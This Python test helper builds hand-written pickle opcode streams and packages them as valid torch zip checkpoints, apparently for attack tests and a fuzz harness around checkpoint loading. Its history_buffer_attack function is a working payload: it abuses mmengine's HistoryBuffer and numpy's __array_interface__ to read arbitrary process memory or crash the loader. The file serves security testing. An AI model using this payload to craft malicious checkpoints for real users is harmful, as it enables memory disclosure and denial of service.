"""Hand-written pickle opcode streams and torch zip files around them (for the attack tests and
the fuzz harness). Opcodes are written one by one, as an attacker would, not by ``pickle.dumps``
(which cannot produce them from real objects). Imported by path: pytest runs with
``--import-mode=importlib``, and subprocesses put this folder on ``sys.path``."""
import io
import pickle
import struct
import zipfile

__all__ = ['Ops', 'torch_zip', 'history_buffer_attack', 'HISTORY_BUFFER']

HISTORY_BUFFER = ('mmengine.logging.history_buffer', 'HistoryBuffer')


class Ops:
    """A protocol-2 opcode stream; each method appends one value or opcode."""

    def __init__(self):
        self.out = bytearray(pickle.PROTO + b'\x02')

    def op(self, code: bytes) -> 'Ops':
        self.out += code
        return self

    def glob(self, module: str, name: str) -> 'Ops':
        return self.op(pickle.GLOBAL + f'{module}\n{name}\n'.encode())

    def text(self, value: str) -> 'Ops':
        data = value.encode('utf-8', 'surrogatepass')
        return self.op(pickle.BINUNICODE + struct.pack('<I', len(data)) + data)

    def integer(self, value: int) -> 'Ops':
        if -2 ** 31 <= value < 2 ** 31:
            return self.op(pickle.BININT + struct.pack('<i', value))
        raw = value.to_bytes((value.bit_length() + 8) // 8, 'little', signed=True)
        return self.op(pickle.LONG1 + bytes([len(raw)]) + raw)

    def real(self, value: float) -> 'Ops':
        return self.op(pickle.BINFLOAT + struct.pack('>d', value))

    def boolean(self, value: bool) -> 'Ops':
        return self.op(pickle.NEWTRUE if value else pickle.NEWFALSE)

    def none(self) -> 'Ops':
        return self.op(pickle.NONE)

    def raw_bytes(self, value: bytes) -> 'Ops':
        """``bytes`` the way numpy pickles them under protocol 2: _codecs.encode(str, latin1)."""
        self.glob('_codecs', 'encode').text(value.decode('latin1')).text('latin1')
        return self.op(pickle.TUPLE2 + pickle.REDUCE)

    def put(self, index: int) -> 'Ops':
        return self.op(pickle.BINPUT + bytes([index]))

    def get(self, index: int) -> 'Ops':
        return self.op(pickle.BINGET + bytes([index]))

    def stop(self) -> bytes:
        return bytes(self.out + pickle.STOP)


def torch_zip(data_pkl: bytes, name: str = 'archive') -> bytes:
    """A torch zip checkpoint whose ``data.pkl`` is ``data_pkl`` (records and CRCs valid)."""
    import torch
    buf = io.BytesIO()
    torch.save({}, buf)
    buf.seek(0)
    out = io.BytesIO()
    with zipfile.ZipFile(buf) as src, zipfile.ZipFile(out, 'w', zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            record = info.filename.split('/', 1)[1]
            dst.writestr(f'{name}/{record}', data_pkl if record == 'data.pkl' else data)
    return out.getvalue()


def history_buffer_attack(address: int, length: int) -> bytes:
    """The issue's memory read: NEWOBJ a HistoryBuffer, BUILD an ``__array_interface__`` with
    ``address`` onto it, then ``HistoryBuffer([that], [0], 10)``, whose ``np.array([that])``
    reads ``length`` bytes at ``address`` (SIGSEGV for an unmapped one)."""
    ops = Ops().op(pickle.EMPTY_DICT).text('leak')
    ops.glob(*HISTORY_BUFFER).put(0)  # called last: HistoryBuffer([that], [0], 10)
    ops.op(pickle.EMPTY_LIST)
    ops.get(0).op(pickle.EMPTY_TUPLE + pickle.NEWOBJ).put(1)  # that = HistoryBuffer.__new__
    ops.op(pickle.EMPTY_DICT).text('__array_interface__').op(pickle.EMPTY_DICT + pickle.MARK)
    ops.text('data').integer(address).boolean(True).op(pickle.TUPLE2)
    ops.text('shape').integer(length).op(pickle.TUPLE1)
    ops.text('typestr').text('|u1')
    ops.text('version').integer(3)
    ops.op(pickle.SETITEMS + pickle.SETITEM + pickle.BUILD)  # the interface onto that
    ops.op(pickle.APPEND)  # [that]
    ops.op(pickle.EMPTY_LIST).integer(0).op(pickle.APPEND).integer(10)
    ops.op(pickle.TUPLE3 + pickle.REDUCE)
    ops.op(pickle.SETITEM)
    return ops.stop()
